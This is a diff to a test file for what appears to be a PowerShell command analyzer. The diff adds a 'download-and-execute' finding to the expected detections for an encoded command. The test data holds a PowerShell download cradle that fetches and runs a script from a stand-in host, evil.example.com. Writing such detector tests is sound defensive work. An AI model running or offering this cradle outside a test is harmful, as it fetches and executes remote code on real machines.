@@ -19,7 +19,8 @@ describe('analyzeCommand', () => {
     const script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')";
     const r = analyzeCommand(`powershell ${flag} ${utf16b64(script)}`);
     expect(r.decoded).toBe(script);
-    expect(r.findings.map((f) => f.id)).toEqual(['encoded-command', 'download-cradle', 'invoke-expression']);
+    // IEX of a DownloadString is also download-and-execute (issue 21).
+    expect(r.findings.map((f) => f.id)).toEqual(['encoded-command', 'download-cradle', 'invoke-expression', 'download-and-execute']);
     expect(r.iocs.urls).toEqual(['http://evil.example.com/a.ps1']);
     expect(r.iocs.domains).toEqual(['evil.example.com']);
   });
